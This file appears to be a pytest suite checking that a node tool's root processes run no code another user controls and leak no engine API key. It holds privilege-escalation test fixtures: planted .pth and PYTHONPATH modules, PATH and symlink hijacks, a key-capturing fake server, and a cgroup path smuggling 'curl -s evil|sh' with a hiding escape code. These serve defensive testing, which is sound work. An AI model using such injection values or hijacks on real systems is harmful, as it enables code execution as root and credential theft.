"""Root runs no code of another user, and the engine's key goes to no process of another user."""

from __future__ import annotations

import http.server
import json
import os
import re
import subprocess
import threading
from collections.abc import Callable
from pathlib import Path

import pytest

from facts import pack
from node.core import proc, run
from node.engine import config
from node.engine.answer import answer
from node.engine.evidence import OwnUnit
from tests.unit.node.support.host import Host, apply_request, change, compiled, file_step

ROOT = Path(__file__).resolve().parents[3]
UNITS = ROOT / "templates/etc/systemd/system"
ID = "a" * 64
NOBODY = 65534


@pytest.fixture
def host(tmp_path: Path) -> Host:
    """A host with nothing on it."""
    root = tmp_path / "host"
    (root / "bin").mkdir(parents=True)
    program = tmp_path / "rignode-123456789abc.pyz"
    program.write_bytes(compiled(pack.zipapp_bytes()))
    return Host(root, program)


def test_the_program_runs_nothing_of_a_users_python(tmp_path: Path) -> None:
    """systemd gives a unit's lines of root the HOME of its User=."""
    program, home, ran = tmp_path / "rignode.pyz", tmp_path / "home", tmp_path / "ran"
    program.write_bytes(pack.zipapp_bytes())
    program.chmod(0o755)
    asked = ["python3", "-c", "import site; print(site.getusersitepackages())"]
    environ = {"HOME": str(home), "PATH": "/usr/bin:/bin", "RIGBOOK_STATE": str(tmp_path / "s")}
    folder = Path(subprocess.check_output(asked, env=environ, text=True).strip())
    folder.mkdir(parents=True)
    (folder / "x.pth").write_text(f"import os; os.mknod({str(ran)!r})\n")
    assert str(folder).startswith(str(home))
    subprocess.run(["python3", "-c", "pass"], env=environ, check=True)
    assert ran.exists(), "a Python that is not isolated runs it: else this test shows nothing"
    ran.unlink()
    module = tmp_path / "path" / "json.py"
    module.parent.mkdir()
    module.write_text(f"import os; os.mknod({str(ran)!r})\n")
    environ["PYTHONPATH"] = str(module.parent)
    done = subprocess.run([program, "status"], env=environ, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert not ran.exists()


def test_roots_lines_of_a_unit_with_a_user_begin_with_nothing() -> None:
    lines = [
        line
        for path in UNITS.glob("*.j2")
        for line in path.read_text().splitlines()
        if re.match(r"Exec\w+=[-@:!]*\+", line)
    ]
    assert len(lines) == 2
    assert all("=+{{ clean }} " in line for line in lines), lines


@pytest.mark.parametrize(
    ("path", "unit", "container"),
    [
        ("/system.slice/rigbook-engine.service", "rigbook-engine.service", None),
        ("/system.slice/rigbook-engine.service/sub", "rigbook-engine.service", None),
        ("/system.slice/system-vllm.slice/vllm@1.service", "vllm@1.service", None),
        (f"/system.slice/docker-{ID}.scope", None, ID),
        (f"/docker/{ID}", None, ID),
        # a user's own units and folders are called what he likes
        (f"/user.slice/user-1000.slice/user@1000.service/docker-{ID}.scope", "user@1000.service",
         None),
        ("/user.slice/user-1000.slice/user@1000.service/app.slice/rigbook-engine.service",
         "user@1000.service", None),
        (f"/system.slice/other.service/docker-{ID}.scope", "other.service", None),
        ("/system.slice/other.service/rigbook-engine.service", "other.service", None),
        ("/user.slice/user-0.slice/x;curl -s evil|sh;\x1b[8m.service", None, None),
    ],
)  # fmt: skip
def test_whose_process_it_is(path: str, unit: str | None, container: str | None) -> None:
    assert (proc.unit_of(path), proc.container_of(path)) == (unit, container)


def test_the_watch_gives_no_key_to_whoever_holds_the_port(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A user without root bound the port while the engine was down: he got the key, and `up`."""
    seen: list[str | None] = []

    class Stranger(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers["Content-Length"]))
            seen.append(self.headers.get("Authorization"))
            row = {"message": {"content": "I am somebody else"}, "finish_reason": "stop"}
            raw = json.dumps({"model": "tiny", "choices": [row]}).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(raw)))
            self.end_headers()
            self.wfile.write(raw)

        def log_message(self, *_args: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Stranger) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        port = server.server_address[1]
        end = {"url": f"http://127.0.0.1:{port}", "model": "tiny", "reasoning": False,
               "chat_template_kwargs": {}}  # fmt: skip
        (tmp_path / "node.json").write_text(json.dumps({
            "format": 1, "rig": "r", "node": "n", "role": "head", "rank": 0,
            "unit": "rigbook-engine.service", "container": None, "image": None, "fabric": None,
            "peers": [], "master": None, "endpoint": end, "ports": [port], "start_budget_s": 60,
            "memory": {"gpu_memory_utilization": 0.5, "gpus": 0, "cpu_bytes": 0},
            "needs_nvidia": False, "weights": "/models/x",
            "venv": {"path": "/opt/v", "user": "nobody", "version": None},
        }))  # fmt: skip
        secrets = tmp_path / "secrets.env"
        secrets.write_text("VLLM_API_KEY=sk-the-owners-key\n")
        secrets.chmod(0o600)
        monkeypatch.setenv("RIGBOOK_ENGINE", str(tmp_path / "node.json"))
        monkeypatch.setenv("RIGBOOK_SECRETS", str(secrets))
        reply = OwnUnit(config.load_engine()).ask(5.0)
        asked_here = answer({"timeout_s": 5})
        server.shutdown()
    assert not reply.ok and "not this engine" in reply.detail
    assert not asked_here["answered"] and "not this engine" in asked_here["detail"]
    assert not any(seen)


@pytest.fixture
def theirs(host: Host) -> Path:
    """A folder of nobody's with a program that says that it ran."""
    folder = host.root / "theirs"
    (folder / "bin").mkdir(parents=True)
    for name in ("python", "tool", "kubectl", "nvidia-smi"):
        (folder / "bin" / name).write_text(f"#!/bin/sh\nid -u >> {host.root}/ran\necho 1.0\n")
        (folder / "bin" / name).chmod(0o755)
    for path in (folder, *folder.rglob("*")):
        os.chown(path, NOBODY, NOBODY)
    return folder


def test_the_program_that_checks_a_file_runs_as_the_owner_of_its_folder(
    host: Host, theirs: Path
) -> None:
    """A patched file of a venv is compiled by the venv's own Python, which is its owner's."""
    step = file_step(theirs / "a.py", validate=["sh", "-c", 'test "$(id -u)" != 0'])
    assert host.call("apply", apply_request(step))["ok"]


def root_tree(host: Host, theirs: Path) -> tuple[str, object]:
    tree = host.root / "tree"
    tree.mkdir()
    tool = {"id": "t", "argv": [str(theirs / "bin" / "tool")], "tree": str(tree)}
    return "patch tool", {"change": change(), "tool": tool}


def below_theirs(host: Host, theirs: Path) -> tuple[str, object]:
    """Root's own folder, which the owner of the one above can swap for another."""
    tree = theirs / "roots"
    tree.mkdir()
    tool = {"id": "t", "argv": ["/usr/bin/touch", f"{host.root}/ran"], "tree": str(tree)}
    return "patch tool", {"change": change(), "tool": tool}


def by_a_link(host: Host, theirs: Path) -> tuple[str, object]:
    (host.root / "tree").mkdir()
    (host.root / "link").symlink_to(theirs / "bin")
    tool = {"id": "t", "argv": [f"{host.root}/link/tool"], "tree": f"{host.root}/tree"}
    return "patch tool", {"change": change(), "tool": tool}


def as_root(host: Host, theirs: Path) -> tuple[str, object]:
    asked = {"argv": ["vllm", "serve"], "environ": {}, "venv": str(theirs), "user": "root"}
    return "preflight", asked


def packages(host: Host, theirs: Path) -> tuple[str, object]:
    """A venv of root's whose packages are somebody else's."""
    venv = host.root / "venv"
    folder = venv / "lib/python3.11/site-packages"
    folder.mkdir(parents=True)
    (venv / "bin").mkdir()
    (venv / "bin" / "python").symlink_to("/bin/sh")
    os.chown(folder, NOBODY, NOBODY)
    return "preflight", {"argv": ["vllm"], "environ": {}, "venv": str(venv), "user": "root"}


def kubeconfig(host: Host, theirs: Path) -> tuple[str, object]:
    """It may name a program that gives the credentials."""
    host.double("kubectl", f"#!/bin/sh\n# rigbook stand-in\ntouch {host.root}/ran\n")
    (theirs / "config").touch()
    return "kube look", {"kubectl": "kubectl", "kubeconfig": str(theirs / "config"),
                         "namespace": "a", "deployment": "b"}  # fmt: skip


def on_path(host: Host, theirs: Path) -> tuple[str, object]:
    host.env["PATH"] = f"{theirs}/bin:{os.environ['PATH']}"
    return "snapshot", {}


@pytest.mark.parametrize(
    "case", [root_tree, below_theirs, by_a_link, as_root, packages, kubeconfig, on_path]
)
def test_what_another_user_may_change_is_not_run_as_root(
    host: Host, theirs: Path, case: Callable[..., tuple[str, object]]
) -> None:
    verb, request = case(host, theirs)
    answer = host.run(host.argv(verb), json.dumps(request)).stdout
    assert not (host.root / "ran").exists(), answer
    if verb != "snapshot":
        assert "is not run as root: another user may change" in answer
        assert f"{theirs if case is not packages else host.root / 'venv'}" in answer


def test_a_path_without_a_folder_of_roots_is_the_systems(monkeypatch: pytest.MonkeyPatch) -> None:
    """Else every command is "not found", and is looked for in the current folder."""
    monkeypatch.setenv("PATH", "/etc/passwd/bin:relative")
    monkeypatch.setattr(run, "not_roots", lambda path: path)
    run._roots_own.cache_clear()
    assert run.environment()["PATH"] == "/usr/sbin:/usr/bin:/sbin:/bin"
    monkeypatch.undo()
    run._roots_own.cache_clear()
    assert run._roots_own("/etc/passwd/bin:/usr/bin") == "/usr/bin"
